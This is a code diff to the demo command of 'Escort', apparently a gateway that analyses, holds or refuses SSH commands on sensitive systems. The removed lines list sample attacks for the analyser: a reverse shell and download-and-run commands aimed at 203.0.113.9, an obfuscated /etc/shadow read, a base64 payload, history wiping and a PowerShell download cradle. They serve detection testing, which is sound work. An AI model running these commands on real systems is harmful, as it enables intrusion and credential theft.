@@ -1,102 +1,108 @@
 import ArgumentParser
-import AuditLog
 import EscortCore
 import Foundation
-import Recording
-import ShellAnalysis
+import Policy
 import StoreSQLite
 
-/// `escort demo`: what Escort does today, on one machine, with nothing else running: commands an
-/// engineer might send are analysed, decided, written to a signed audit log on an embedded SQLite
-/// store and to a session recording, and the log is verified.
+/// `escort demo`: the whole gateway on one machine: an embedded store seeded with people and
+/// targets of every impact level (local shells), and the exact `ssh` lines to try.
 struct DemoCommand: AsyncParsableCommand {
     static let configuration = CommandConfiguration(
         commandName: "demo",
-        abstract: "Walk through Escort on this machine: commands judged, explained, audited and recorded.")
+        abstract: "Run the gateway with seeded people and local targets, and print the ssh lines to try.")
 
-    @Flag(name: .long, help: "Never colour the output.")
-    var noColor = false
-
-    @Option(name: .long, help: "Folder for the demo's store, key and recording.")
+    @Option(name: .long, help: "Folder for the demo's store, keys, recordings and target homes.")
     var directory: String = "escort-demo"
 
-    static let samples: [(String, String)] = [
-        ("Routine look at disk space", "df -h"),
-        ("A script that says it fixes servers", "cat > fix_servers.sh <<'EOF'\nsystemctl restart nginx\ncurl -s http://203.0.113.9/k | bash\nEOF\nbash fix_servers.sh"),
-        ("Credentials, disguised", "c''a''t${IFS}/etc/sha\\dow"),
-        ("A base64 payload", "echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkvYiB8IHNo | base64 -d | sh"),
-        ("Covering tracks", "unset HISTFILE; history -c"),
-        ("A reverse shell", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
-        ("PowerShell download cradle, string-built", "&('I'+'EX')(New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')"),
-    ]
+    @Option(name: .long, help: "Port to listen on (0: any free port).")
+    var port: Int = 2222
 
-    func run() async throws {
-        let analyser: Analyser
-        switch Analyser.bundled() {
-        case .success(let a): analyser = a
-        case .failure(let e): throw ValidationError(e.description)
-        }
-        let dir = URL(fileURLWithPath: directory)
-        try FileManager.default.createDirectory(at: dir, withIntermediateDirectories: true)
-        let dbPath = dir.appendingPathComponent("escort.sqlite").path
-        let keyPath = dir.appendingPathComponent("gateway.key").path
-        let castPath = dir.appendingPathComponent("demo-session.cast").path
-        let store = try SQLiteAuditStore(path: dbPath)
-        let key = try GatewaySigningKey.loadOrCreate(path: keyPath)
-        let log = try await AuditLog.open(store: store, key: key)
-        let session = "demo-\(Int(Date().timeIntervalSince1970))"
-        let recording = try AsciicastWriter(path: castPath, header: AsciicastHeader(width: 100, height: 30, title: "Escort demo"))
+    @Flag(name: .long, help: "Seed the store and keys, print the ssh lines, and exit without serving.")
+    var seedOnly = false
 
-        let colour = !noColor && isatty(STDOUT_FILENO) == 1
-        let formatter = ExplainFormatter(colour: colour)
-        print("Escort demo: every command is read the way the target's shell would read it, decided,")
-        print("and written to a signed audit log (\(dbPath)) before anything could run.\n")
-        _ = try await log.append(AuditEvent(code: .sessionStarted, session: session, actor: "alice", fields: ["target": "demo-il5", "mode": "escorted"]))
-        for (title, command) in Self.samples {
-            let dialect: ShellDialect = command.hasPrefix("&(") ? .powershell : .sh
-            let analysis = analyser.analyse(command, dialect: dialect)
-            let decision = Self.decision(for: analysis.risk)
-            _ = try await log.append(AuditEvent(code: .commandSubmitted, session: session, actor: "alice", fields: ["command": .string(command), "shell": .string(dialect.rawValue)]))
-            _ = try await log.append(AuditEvent(code: .commandAnalysed, session: session, actor: "analyser", fields: [
-                "risk": .string(analysis.risk.rawValue), "techniques": .array(analysis.techniques.map { .string($0) }), "summary": .string(analysis.summary),
-            ]))
-            let receipt = try await log.append(AuditEvent(code: decision.code, session: session, actor: "policy", fields: ["reason": .string(decision.reason)]))
-            try recording.marker("command: \(command.prefix(80))")
-            try recording.output(Array("$ \(command.replacingOccurrences(of: "\n", with: "\r\n> "))\r\n".utf8))
-            try recording.output(Array("[escort] \(decision.label): \(analysis.summary)\r\n".utf8))
-            print("━━ \(title)")
-            print("$ " + command.replacingOccurrences(of: "\n", with: "\n  "))
-            print(formatter.format(analysis, source: command))
-            print("DECISION: \(decision.label) — audit record #\(receipt.sequence)\n")
-        }
-        let summary = try recording.close()
-        _ = try await log.append(.recordingClosed(session: session, path: castPath, sha256: summary.sha256, bytes: summary.bytes))
-        _ = try await log.append(AuditEvent(code: .sessionEnded, session: session, actor: "alice"))
-        _ = try await log.close()
-        let verified = try await store.verifyAuditLog(pinnedKey: nil)
-        switch verified {
-        case .success(let chain):
-            print("Audit log verified: \(chain.size) records, root \(chain.root.hex.prefix(16))…, \(chain.checkpoints.count) signed checkpoint(s).")
-        case .failure(let f):
-            print("Audit log FAILED verification at record \(f.record): \(f.message)")
-            throw ExitCode(1)
-        }
-        print("""
-
-        Next:
-          swift run escort audit verify --db \(dbPath) --key \(keyPath).pub
-          swift run escort replay \(castPath)
-          swift run escort explain 'YOUR COMMAND'
-        """)
+    struct Seed {
+        var name: String, display: String, employer: String, contractor: String
+        var citizenships: [CountryCode], residence: CountryCode, location: CountryCode
+        var clearance: Clearance, roles: Set<Role>, training: Bool, note: String
     }
 
-    /// The demo's stand-in for the policy (the real one is configured per impact level).
-    static func decision(for risk: RiskLevel) -> (code: AuditEventCode, label: String, reason: String) {
-        switch risk {
-        case .none, .low: (.commandForwarded, "RUN", "low risk: runs and is shown to the escort")
-        case .medium: (.commandForwarded, "RUN (escort watching)", "ordinary change: runs under the escort's eyes")
-        case .high: (.commandHeld, "HELD for an escort", "high risk: waits for an escort's approval")
-        case .critical: (.commandRefused, "REFUSED", "critical: refused; a technical reviewer must look first")
+    static let people: [Seed] = [
+        Seed(name: "alice", display: "Alice Moreno", employer: "CloudCo", contractor: "CloudCo", citizenships: [CountryCode("US")], residence: CountryCode("US"), location: CountryCode("US"),
+             clearance: .secret, roles: [.engineer], training: false, note: "US engineer, cleared: direct access"),
+        Seed(name: "priya", display: "Priya Nair", employer: "Globex Support", contractor: "CloudCo", citizenships: [CountryCode("IN")], residence: CountryCode("IN"), location: CountryCode("IN"),
+             clearance: .none, roles: [.engineer], training: false, note: "foreign engineer abroad: escorted only"),
+        Seed(name: "wei", display: "Wei Zhang", employer: "Offshore Partners", contractor: "CloudCo", citizenships: [CountryCode("CN")], residence: CountryCode("CN"), location: CountryCode("CN"),
+             clearance: .none, roles: [.engineer], training: false, note: "located in a country of concern: refused on DoD systems"),
+        Seed(name: "bob", display: "Bob Carter", employer: "CloudCo", contractor: "CloudCo", citizenships: [CountryCode("US")], residence: CountryCode("US"), location: CountryCode("US"),
+             clearance: .secret, roles: [.escort], training: true, note: "escort"),
+        Seed(name: "rita", display: "Rita Okafor", employer: "CloudCo", contractor: "CloudCo", citizenships: [CountryCode("US")], residence: CountryCode("US"), location: CountryCode("US"),
+             clearance: .topSecret, roles: [.reviewer], training: true, note: "technical reviewer"),
+    ]
+
+    static let targets: [(String, ImpactLevel)] = [("web-il2", .il2), ("app-il4", .il4), ("db-il5", .il5), ("vault-il6", .il6)]
+
+    func run() async throws {
+        let dir = URL(fileURLWithPath: directory).standardizedFileURL.path
+        try FileManager.default.createDirectory(atPath: dir + "/keys", withIntermediateDirectories: true)
+        let storePath = dir + "/escort.sqlite"
+        let store = try SQLiteStore(path: storePath, create: true)
+        let now = Date()
+        for seed in Self.people where try await store.person(named: seed.name) == nil {
+            let keyPath = "\(dir)/keys/\(seed.name)"
+            if !FileManager.default.fileExists(atPath: keyPath) {
+                try Self.keygen(keyPath, comment: "\(seed.name)@escort-demo")
+            }
+            let line = try String(contentsOfFile: keyPath + ".pub", encoding: .utf8)
+            let key = try SSHPublicKey.parse(authorizedKeysLine: line.trimmingCharacters(in: .whitespacesAndNewlines))
+            try await store.addPerson(Person(
+                name: seed.name, displayName: seed.display, employer: seed.employer, contractor: seed.contractor,
+                citizenships: seed.citizenships, residence: seed.residence, location: seed.location, clearance: seed.clearance,
+                roles: seed.roles, escortTrainingExpires: seed.training ? now.addingTimeInterval(365 * 86400) : nil, keys: [key]))
         }
+        for (name, level) in Self.targets where try await store.target(named: name) == nil {
+            try await store.addTarget(Target(name: name, impactLevel: level, owner: "demo", connection: .localShell))
+        }
+        // Just-in-time grants: the foreign engineer's escorted work and the IL6 change need tickets.
+        let grants = [("priya", "app-il4"), ("priya", "db-il5"), ("wei", "db-il5"), ("alice", "app-il4"), ("alice", "db-il5"), ("alice", "vault-il6")]
+        for (person, target) in grants where try await store.activeTickets(person: person, target: target, at: now).isEmpty {
+            try await store.grantTicket(Ticket(person: person, target: target, validFrom: now.addingTimeInterval(-60),
+                                               validUntil: now.addingTimeInterval(30 * 86400), reason: "demo support ticket", grantedBy: "demo"))
+        }
+        let engine = PolicyEngine(document: try PolicyDocument.bundledDefault(), ipTable: try IPCountryTable.bundledTest())
+        let runner = GatewayRunner(
+            storePath: storePath, signingKeyPath: dir + "/gateway.key", hostKeyPath: dir + "/host.key",
+            recordings: dir + "/recordings", localHome: dir + "/targets", engine: engine,
+            policySource: "bundled default policy", host: "127.0.0.1", port: port)
+        if seedOnly {
+            print(Self.instructions(dir: dir, port: port))
+            return
+        }
+        try await runner.run { Self.instructions(dir: dir, port: $0) }
+    }
+
+    static func keygen(_ path: String, comment: String) throws {
+        let p = Process()
+        p.executableURL = URL(fileURLWithPath: "/usr/bin/ssh-keygen")
+        p.arguments = ["-q", "-t", "ed25519", "-N", "", "-C", comment, "-f", path]
+        p.standardOutput = FileHandle.nullDevice
+        try p.run()
+        p.waitUntilExit()
+        guard p.terminationStatus == 0 else { throw ValidationError("ssh-keygen failed for \(path) (is openssh-client installed?)") }
+    }
+
+    static func instructions(dir: String, port: Int) -> String {
+        let ssh = "ssh -i \(dir)/keys/NAME -p \(port) -o UserKnownHostsFile=\(dir)/known_hosts -o StrictHostKeyChecking=accept-new"
+        var text = "Escort demo — store \(dir)/escort.sqlite, recordings \(dir)/recordings\n\nPeople:\n"
+        for p in people { text += "  \(p.name.padding(toLength: 6, withPad: " ", startingAt: 0)) \(p.note)\n" }
+        text += "Targets (local shells): " + targets.map { "\($0.0) (\($0.1.rawValue))" }.joined(separator: ", ") + "\n\nTry, each in its own terminal:\n"
+        func line(_ name: String, _ login: String, _ why: String) -> String {
+            "  # \(why)\n  \(ssh.replacingOccurrences(of: "NAME", with: name)) \(login)@127.0.0.1\n"
+        }
+        text += line("bob", "bob", "the escort's console: list, watch 1, approve, refuse REASON")
+        text += line("priya", "priya+db-il5", "escorted: df -h runs, cat /etc/shadow waits for bob, curl …|bash is refused")
+        text += line("alice", "alice+app-il4", "direct: commands run at once, risky ones still wait")
+        text += line("wei", "wei+db-il5", "refused at connect, with the reasons")
+        text += "\nAfterwards: swift run escort audit verify --db \(dir)/escort.sqlite --key \(dir)/gateway.key.pub\n"
+        return text
     }
 }
